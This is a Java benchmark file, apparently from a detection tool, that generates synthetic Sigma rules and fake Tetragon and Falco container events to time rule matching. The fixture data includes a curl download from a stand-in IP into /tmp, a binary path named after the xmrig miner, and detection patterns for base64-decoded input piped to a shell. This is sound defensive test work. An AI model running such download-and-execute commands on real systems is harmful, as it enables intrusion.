package dev.strata.job.bench;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.strata.detect.sigma.LogSources;
import dev.strata.detect.sigma.SigmaEngine;
import dev.strata.detect.sigma.SigmaFieldMapping;
import dev.strata.detect.sigma.SigmaFixtures;
import dev.strata.detect.sigma.SigmaRecord;
import dev.strata.detect.sigma.SigmaRule;
import dev.strata.detect.sigma.SigmaRuleLoader;
import dev.strata.detect.sigma.SigmaRuleSet;
import dev.strata.parse.ChunkParser;
import dev.strata.parse.ParserRegistry;
import dev.strata.schema.event.EvidenceEvent;
import dev.strata.schema.raw.RawArtifactChunk;
import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;
import java.util.stream.Stream;

/** {@code SigmaBenchmark --linux}: the generic Linux log sources on Tetragon and Falco events (see SigmaBenchmark). */
final class SigmaRuntimeWorkload {
  private static final ObjectMapper JSON = new ObjectMapper();
  static final String[] BINARIES = {"/usr/bin/python3", "/usr/local/bin/node", "/bin/sh", "/usr/bin/curl",
      "/usr/sbin/nginx", "/usr/bin/java", "/bin/ls", "/usr/bin/grep", "/usr/bin/env", "/bin/cat"};
  static final String[] RARE_BINARIES = {"/tmp/.cache/xmrig", "/tmp/tool3a", "/dev/shm/tool8b"};
  static final int[] PORTS = {443, 80, 5432, 6379, 8080, 53, 9092};

  private SigmaRuntimeWorkload() {}

  static void run(Path rulesDir, int generated, int events, int rounds) throws Exception {
    Path work = Files.createTempDirectory("strata-sigma-linux-bench");
    try {
      Path rulesCopy = work.resolve("rules");
      Files.createDirectories(rulesCopy);
      try (Stream<Path> s = Files.list(rulesDir)) {
        for (Path f : s.filter(p -> p.toString().endsWith(".yml")).toList()) Files.copy(f, rulesCopy.resolve(f.getFileName()));
      }
      generateRules(rulesCopy, generated);
      SigmaRuleSet rules = SigmaRuleLoader.load(List.of(rulesCopy));
      SigmaEngine engine = new SigmaEngine(rules);
      System.out.println(rules.summary() + " (" + rulesDir + " + " + generated + " generated); index fields:"
          + " process_creation " + engine.indexField("process_creation") + " (" + engine.unkeyedRules("process_creation")
          + " unkeyed), network_connection " + engine.indexField("network_connection") + " ("
          + engine.unkeyedRules("network_connection") + " unkeyed), file_event " + engine.indexField("file_event")
          + " (" + engine.unkeyedRules("file_event") + " unkeyed)");
      Path evidence = work.resolve("evidence");
      long bytes = writeRecords(evidence, events);
      List<RawArtifactChunk> chunks = SigmaFixtures.chunks(evidence);
      ChunkParser parser = new ChunkParser(ParserRegistry.defaults());
      List<EvidenceEvent> parsed = new ArrayList<>(events);
      for (RawArtifactChunk c : chunks) parser.parse(c, SigmaFixtures.collecting(parsed));
      if (parsed.size() != events) throw new AssertionError("parsed " + parsed.size() + " of " + events);
      double rulesPerEvent = 0;
      for (EvidenceEvent e : parsed) rulesPerEvent += rulesOffered(rules, e);
      rulesPerEvent /= events;
      System.out.printf(Locale.ROOT, "%,d records (%.0f bytes each), %.1f rules of the categories an event answers per event%n",
          events, (double) bytes / events, rulesPerEvent);

      SigmaBenchmark.measure(events, rounds, rulesPerEvent, "parse", () -> {
        List<EvidenceEvent> out = new ArrayList<>(events);
        for (RawArtifactChunk c : chunks) parser.parse(c, SigmaFixtures.collecting(out));
        return out.size();
      }, () -> {
        long all = 0;
        for (EvidenceEvent e : parsed) all += everyRule(rules, e);
        return all;
      }, () -> {
        long indexed = 0;
        for (EvidenceEvent e : parsed) indexed += engine.match(e).size();
        return indexed;
      });
    } finally {
      try (Stream<Path> s = Files.walk(work)) {
        for (Path p : s.sorted(Comparator.reverseOrder()).toList()) Files.deleteIfExists(p);
      }
    }
  }

  /** How many rules the event is offered: those of every category its view answers. */
  static int rulesOffered(SigmaRuleSet rules, EvidenceEvent e) {
    SigmaFieldMapping m = LogSources.fieldMapping(e.getSourceFormat()).orElse(null);
    if (m == null) return 0;
    int n = 0;
    for (String c : m.categoriesOf(e)) for (SigmaRule r : rules.rules()) if (r.logSource().equals(c)) n++;
    return n;
  }

  /** Every rule of the categories the event answers, on its view (no index). */
  static long everyRule(SigmaRuleSet rules, EvidenceEvent e) {
    SigmaFieldMapping m = LogSources.fieldMapping(e.getSourceFormat()).orElse(null);
    if (m == null) return 0;
    long n = 0;
    for (String c : m.categoriesOf(e)) {
      SigmaRecord view = m.view(c, e);
      for (SigmaRule r : rules.rules()) if (r.logSource().equals(c) && r.detection().eval(view)) n++;
    }
    return n;
  }

  /** Rules in the SigmaHQ linux style: 2/3 process_creation (a fifth on ParentImage), 1/6 network, 1/6 file. */
  static void generateRules(Path dir, int n) throws IOException {
    int proc = n * 2 / 3;
    int net = (n - proc) / 2;
    for (int i = 0; i < n; i++) {
      String category;
      String selection;
      if (i < proc) {
        category = "process_creation";
        selection = switch (i % 5) {
          case 0 -> "        Image|endswith:\n            - '/tool" + i + "a'\n            - '/tool" + i + "b'\n";
          case 1 -> "        CommandLine|contains|all:\n            - ' --opt" + i + "'\n            - 'http'\n";
          case 2 -> "        ParentImage|endswith: '/parent" + i + "'\n        Image|endswith: '/sh'\n";
          case 3 -> "        Image|endswith: '/curl'\n        CommandLine|contains: '/tmp/drop" + i + "'\n";
          default -> "        CommandLine|re: 'base64 -d.*\\|\\s*(ba)?sh" + i + "'\n";
        };
      } else if (i < proc + net) {
        category = "network_connection";
        selection = i % 2 == 0
            ? "        Initiated: 'true'\n        DestinationPort:\n            - " + (20000 + i) + "\n            - " + (30000 + i) + "\n"
            : "        DestinationIp|cidr: '192.0.2." + (i % 250) + "/32'\n";
      } else {
        category = "file_event";
        selection = i % 2 == 0
            ? "        TargetFilename|startswith: '/etc/dir" + i + "/'\n"
            : "        TargetFilename|endswith: '.ext" + i + "'\n";
      }
      Files.writeString(dir.resolve(String.format(Locale.ROOT, "gen_%03d_%s.yml", i, category)),
          "title: Generated " + category + " " + i + "\n"
              + "id: 00000000-0000-4000-8000-" + String.format(Locale.ROOT, "%012d", i) + "\n"
              + "author: SigmaBenchmark\nlicense: generated\ntags:\n    - attack.execution\n"
              + "logsource:\n    product: linux\n    category: " + category + "\n"
              + "detection:\n    selection:\n" + selection + "    condition: selection\nlevel: medium\n");
    }
  }

  /** The records: evidence/tetragon/events.json and evidence/falco_alerts.json; returns their bytes. */
  static long writeRecords(Path dir, int n) throws IOException {
    Files.createDirectories(dir.resolve("tetragon"));
    SplittableRandom rnd = new SplittableRandom(42);
    long bytes = 0;
    try (BufferedWriter tetragon = Files.newBufferedWriter(dir.resolve("tetragon/events.json"));
        BufferedWriter falco = Files.newBufferedWriter(dir.resolve("falco_alerts.json"))) {
      for (int i = 0; i < n; i++) {
        boolean rare = rnd.nextInt(200) == 0;
        int kind = rnd.nextInt(100);
        String line = (kind < 90 ? tetragon(i, kind, rare, rnd) : falco(i, kind, rare, rnd)).toString();
        (kind < 90 ? tetragon : falco).write(line);
        (kind < 90 ? tetragon : falco).newLine();
        bytes += line.length() + 1;
      }
    }
    return bytes;
  }

  static ObjectNode process(ObjectNode p, int pid, String binary, String args, int i) {
    p.put("exec_id", "bm9kZS0x" + Integer.toHexString(pid * 31 + i));
    p.put("pid", pid);
    p.put("uid", pid % 3 == 0 ? 0 : 1000);
    p.put("cwd", "/srv/app");
    p.put("binary", binary);
    p.put("arguments", args);
    p.put("flags", "execve clone");
    p.put("start_time", "2026-11-20T10:00:00.000000000Z");
    p.put("auid", 4294967295L);
    ObjectNode pod = p.putObject("pod");
    pod.put("namespace", "ns-" + (pid % 20));
    pod.put("name", "app-" + (pid % 500) + "-7d9c6b5f4-x2x9q");
    ObjectNode c = pod.putObject("container");
    c.put("id", "containerd://" + String.format(Locale.ROOT, "%064x", pid % 500));
    c.put("name", "app");
    c.putObject("image").put("id", "registry.example/app@sha256:" + "ab".repeat(32)).put("name", "registry.example/app:1.0");
    c.put("start_time", "2026-11-20T09:00:00Z");
    c.put("pid", 1);
    p.put("parent_exec_id", "bm9kZS0xcGFyZW50");
    return p;
  }

  static ObjectNode tetragon(int i, int kind, boolean rare, SplittableRandom rnd) {
    ObjectNode r = JSON.createObjectNode();
    int pid = 1000 + rnd.nextInt(60000);
    String binary = rare ? RARE_BINARIES[rnd.nextInt(RARE_BINARIES.length)] : BINARIES[rnd.nextInt(BINARIES.length)];
    String args = rare ? "-c 'curl http://198.51.100.9/x -o /tmp/drop3 --opt1 http'" : "--port " + rnd.nextInt(9000) + " -v";
    String type = kind < 60 ? "process_exec" : kind < 75 ? "tcp_connect" : kind < 85 ? "file" : "process_exit";
    ObjectNode body = r.putObject(type.equals("process_exec") || type.equals("process_exit") ? type : "process_kprobe");
    process(body.putObject("process"), pid, binary, args, i);
    process(body.putObject("parent"), pid - 1, rare ? "/usr/bin/parent2" : "/usr/bin/containerd-shim", "-namespace k8s.io", i);
    if (type.equals("tcp_connect")) {
      body.put("function_name", "tcp_connect");
      ObjectNode sock = body.putArray("args").addObject().putObject("sock_arg");
      sock.put("family", "AF_INET").put("type", "SOCK_STREAM").put("protocol", "IPPROTO_TCP")
          .put("saddr", "10.0." + rnd.nextInt(256) + "." + rnd.nextInt(256))
          .put("daddr", rare ? "192.0.2.101" : "10.1." + rnd.nextInt(256) + "." + rnd.nextInt(256))
          .put("sport", 30000 + rnd.nextInt(30000)).put("dport", rare ? 20100 : PORTS[rnd.nextInt(PORTS.length)]);
      body.put("action", "KPROBE_ACTION_POST");
      body.put("policy_name", "network");
    } else if (type.equals("file")) {
      body.put("function_name", "security_file_permission");
      ArrayNode a = body.putArray("args");
      a.addObject().putObject("file_arg").put("path", rare ? "etc/dir134/x.conf" : "srv/app/data/" + rnd.nextInt(1000) + ".log");
      a.addObject().put("int_arg", rnd.nextBoolean() ? 2 : 4);
      body.put("action", "KPROBE_ACTION_POST");
      body.put("policy_name", "files");
    } else if (type.equals("process_exit")) {
      body.put("signal", "SIGTERM");
    }
    r.put("node_name", "ip-10-0-" + (i % 50) + "-23.ec2.internal");
    r.put("cluster_name", "prod-eks");
    r.put("time", "2026-11-20T10:" + String.format(Locale.ROOT, "%02d:%02d", (i / 60) % 60, i % 60) + ".000000000Z");
    return r;
  }

  static ObjectNode falco(int i, int kind, boolean rare, SplittableRandom rnd) {
    ObjectNode r = JSON.createObjectNode();
    String type = kind < 94 ? "execve" : kind < 97 ? "connect" : "openat";
    r.put("hostname", "ip-10-0-" + (i % 50) + "-23.ec2.internal");
    r.put("output", "Falco alert " + type);
    r.put("priority", "Warning");
    r.put("rule", "Rule " + type);
    r.put("source", "syscall");
    r.putArray("tags").add("container").add("mitre_execution");
    r.put("time", "2026-11-20T10:00:00.000000000Z");
    ObjectNode o = r.putObject("output_fields");
    o.put("evt.type", type);
    o.put("container.id", String.format(Locale.ROOT, "%012x", i % 500));
    o.put("k8s.ns.name", "ns-" + (i % 20));
    o.put("k8s.pod.name", "app-" + (i % 500));
    String binary = rare ? "/tmp/tool5a" : BINARIES[rnd.nextInt(BINARIES.length)];
    o.put("proc.exepath", binary);
    o.put("proc.cmdline", binary.substring(binary.lastIndexOf('/') + 1) + " --x " + rnd.nextInt(1000));
    o.put("proc.pid", 1000 + rnd.nextInt(60000));
    o.put("proc.pexepath", "/bin/sh");
    o.put("user.name", "root");
    if (type.equals("connect")) {
      o.put("fd.sip", "10.1.0." + rnd.nextInt(256)).put("fd.sport", PORTS[rnd.nextInt(PORTS.length)])
          .put("fd.cip", "10.0.0.1").put("fd.cport", 40000).put("fd.l4proto", "tcp");
    } else if (type.equals("openat")) {
      o.put("fd.name", "/etc/app/" + rnd.nextInt(100) + ".conf").put("evt.is_open_write", true);
    }
    return r;
  }
}
